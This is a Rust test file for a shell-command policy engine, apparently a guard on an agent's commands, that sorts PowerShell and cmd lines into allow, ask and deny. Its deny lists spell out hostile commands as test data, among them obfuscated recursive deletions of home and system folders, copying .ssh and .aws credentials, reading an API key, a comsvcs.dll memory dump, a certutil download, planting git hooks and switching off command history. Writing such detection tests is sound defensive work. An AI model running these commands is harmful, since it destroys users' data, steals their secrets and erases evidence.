//! PowerShell and cmd: what is hidden in their words for the same things.

mod support;

use gatehouse_policy::Verdict::{Allow, Ask, Deny};
use gatehouse_policy::{Dialect, World};
use support::{check_in, codes, world};

fn shell(dialect: Dialect) -> World<'static> {
    World { dialect, ..world() }
}

#[test]
fn a_command_of_powershell_is_read_however_its_name_and_its_place_are_written() {
    check_in(
        &shell(Dialect::PowerShell),
        Ask,
        &[
            "wsl ls",
            "Remove-Item -Recurse -Force .git",
            "Remove-Item -Recurse -Force node_modules",
            "Remove-Item env:GITHUB_TOKEN",
            "wsl -d Ubuntu -- ls -la",
            "Remove-Item -Recurse -Force C:\\Users\\dev\\project\\dist",
        ],
    );
    check_in(
        &shell(Dialect::PowerShell),
        Deny,
        &[
            "ri -r -fo ${env:USERPROFILE}",
            "ri -r -fo \"$($env:USERPROFILE)\"",
            "ri -r -fo $(${env:USERPROFILE})",
            "rd -r -fo /",
            "Remove-Item -Recurse -Force /",
            "& 'Remove-Item' -Recurse -Force C:\\",
            "wsl rm -rf ~",
            "wsl -e rm -rf ~",
            "wsl -- rm -rf ~",
            "wsl -d Ubuntu rm -rf /",
            "wsl bash -c \"rm -rf ~\"",
            "bash -c \"rm -rf ~\"",
            "sh -c 'rm -rf /'",
            "if (Test-Path a) { Remove-Item -Recurse -Force C:\\ }",
            "foreach ($x in 1) { Remove-Item -Recurse C:\\Users }",
            "Remove-Item -Recurse -Force $HOME",
            "Remove-Item -r -fo ~",
            "Remove-Item -Recurse -Force C:\\Windows",
            "rd -r -fo $env:USERPROFILE",
            "Remove-Item -Recurse -Force C:\\Users\\dev",
        ],
    );
}

#[test]
fn a_command_of_cmd_is_read_within_conditions_loops_and_variables() {
    check_in(
        &shell(Dialect::Cmd),
        Allow,
        &[
            "if exist a echo hi",
            "if exist a.txt type a.txt",
            "if exist a (type a) else type b",
        ],
    );
    check_in(
        &shell(Dialect::Cmd),
        Ask,
        &[
            "for %f in (a.txt b.txt) do type %f",
            "for %f in (*.txt) do type %f",
            "start notepad",
            "if exist a echo x > b.txt",
        ],
    );
    check_in(
        &shell(Dialect::Cmd),
        Deny,
        &[
            "if exist a rd /s /q C:\\Users",
            "if not exist a rd /s /q C:\\Users",
            "if \"%x%\"==\"a\" rd /s /q C:\\Users",
            "if exist a (rd /s /q C:\\Users) else echo x",
            "if exist a (echo x) else rd /s /q C:\\Users",
            "if /i a==b rd /s /q C:\\",
            "if errorlevel 1 rd /s /q C:\\",
            "start /b rd /s /q C:\\Users",
            "start \"\" /wait cmd /c rd /s /q C:\\Users",
            "start rd /s /q C:\\Users",
            "for %f in (C:\\Users) do rd /s /q %f",
            "for /d %f in (C:\\Users\\*) do rd /s /q %f",
            "for %%f in (C:\\Users) do rd /s /q %%f",
            "for /f %f in ('rd /s /q C:\\Users') do echo %f",
            "%COMSPEC% /c rd /s /q C:\\Users",
            "%ComSpec% /c rd /s /q C:\\Users",
            "set x=rd& %x% /s /q C:\\Users",
            "set \"x=rd\" & %x% /s /q C:\\Users",
            "call rd /s /q C:\\Users",
            "@rd /s /q C:\\Users",
            "cmd /c rd /s /q C:\\Users",
            "wsl rm -rf ~",
            "bash -c \"rm -rf ~\"",
            "rd /s /q %USERPROFILE%",
            "rd /s /q C:\\Windows",
            "forfiles /c \"cmd /c del @file\"",
            "set x=C:\\Users& call rd /s /q %x%",
            "start \"\" /d C:\\ rd /s /q C:\\Users",
            "if exist a echo x > .git\\hooks\\pre-commit",
            "for %f in (.git\\hooks\\pre-commit) do echo x > %f",
        ],
    );
}

#[test]
fn secrets_and_guarded_places_are_known_in_powershell() {
    check_in(&shell(Dialect::PowerShell), Allow, &["Get-ChildItem"]);
    check_in(
        &shell(Dialect::PowerShell),
        Ask,
        &[
            "[Environment]::GetEnvironmentVariable('PATH')",
            "[Environment]::GetEnvironmentVariables()",
            "Get-ChildItem env:",
            "echo x > a.txt",
            "$x = \"${env:PATH}\"",
            "echo \"$($env:USERNAME)\"",
            "Copy-Item a.txt b.txt",
            "Compress-Archive src k.zip",
        ],
    );
    check_in(
        &shell(Dialect::PowerShell),
        Deny,
        &[
            "& ('Rem'+'ove-Item') -Recurse -Force C:\\",
            ". ('Rem'+'ove-Item') -Recurse -Force C:\\",
            "& \"Remove-$('Item')\" -Recurse C:\\",
            "Compress-Archive $HOME\\.ssh k.zip",
            "Compress-Archive -Path $HOME\\.ssh\\* -DestinationPath k.zip",
            "Copy-Item -Recurse $HOME\\.ssh k",
            "Copy-Item $HOME\\.aws k",
            "[Environment]::GetEnvironmentVariable('OPENAI_API_KEY')",
            "[System.Environment]::GetEnvironmentVariable(\"OPENAI_API_KEY\", \"User\")",
            "(Get-Item env:OPENAI_API_KEY).Value",
            "Set-Content .git\\hooks\\pre-commit x",
            "Set-Content .git/hooks/pre-commit x",
            "echo x > .git\\hooks\\pre-commit",
            "echo x > .vscode\\tasks.json",
            "Set-PSReadLineOption -HistorySaveStyle SaveNothing",
            "type .ssh\\id_rsa",
            "Set-PSReadLineOption -EditMode Vi",
        ],
    );
}

#[test]
fn what_cmd_is_turned_against_is_denied() {
    check_in(&shell(Dialect::Cmd), Allow, &["dir", "echo hi"]);
    check_in(
        &shell(Dialect::Cmd),
        Ask,
        &[
            "icacls C:\\Users\\dev\\a.txt /grant Everyone:R",
            "icacls a.txt",
            "set PATH=C:\\x;%PATH%",
        ],
    );
    check_in(
        &shell(Dialect::Cmd),
        Deny,
        &[
            "icacls C:\\ /grant Everyone:F /t",
            "wmic process call create calc.exe",
            "rundll32 comsvcs.dll, MiniDump 1 x full",
            "rundll32 javascript:x",
            "certutil -urlcache -f http://x a.exe",
            "echo x > .git\\hooks\\pre-commit",
        ],
    );
}

#[test]
fn the_tasks_of_a_project_run_in_either_shell() {
    check_in(
        &shell(Dialect::PowerShell),
        Allow,
        &[
            "npm test",
            "npm run build",
            "cargo build",
            "cargo test",
            "git status",
            "git diff",
            "pytest",
            "npm test -- --watch",
        ],
    );
    check_in(
        &shell(Dialect::PowerShell),
        Ask,
        &["go build ./...", "npm publish", "npm install x"],
    );
    check_in(&shell(Dialect::Cmd), Allow, &["npm test", "cargo build"]);
}

#[test]
fn a_reason_is_named_after_what_is_done() {
    let named = [
        (
            Dialect::PowerShell,
            "Remove-Item -Recurse -Force $HOME",
            "delete-home",
        ),
        (Dialect::Cmd, "rd /s /q %USERPROFILE%", "delete-home"),
        (
            Dialect::PowerShell,
            "Remove-Item -Recurse -Force C:\\Windows",
            "delete-system",
        ),
        (
            Dialect::Cmd,
            "wmic process call create calc.exe",
            "helper-program",
        ),
        (
            Dialect::Cmd,
            "forfiles /c \"cmd /c del @file\"",
            "helper-program",
        ),
        (
            Dialect::Cmd,
            "rundll32 comsvcs.dll, MiniDump 1 x full",
            "read-secret",
        ),
        (
            Dialect::Cmd,
            "certutil -urlcache -f http://x a.exe",
            "download-run",
        ),
        (
            Dialect::PowerShell,
            "Set-PSReadLineOption -HistorySaveStyle SaveNothing",
            "erase-evidence",
        ),
    ];
    for (dialect, line, code) in named {
        let analysis = gatehouse_policy::shell::analyse(line, &shell(dialect));
        let denied = analysis.findings.iter().filter(|f| f.verdict == Deny);
        assert!(
            denied.clone().any(|f| f.code == code),
            "{line}: {:?}",
            codes(&analysis)
        );
        let others = ["download-run", "delete-system", "disables-security"];
        let other = denied
            .filter(|f| f.code != code)
            .find(|f| others.contains(&f.code.as_str()));
        assert!(other.is_none(), "{line}: {:?}", codes(&analysis));
    }
}
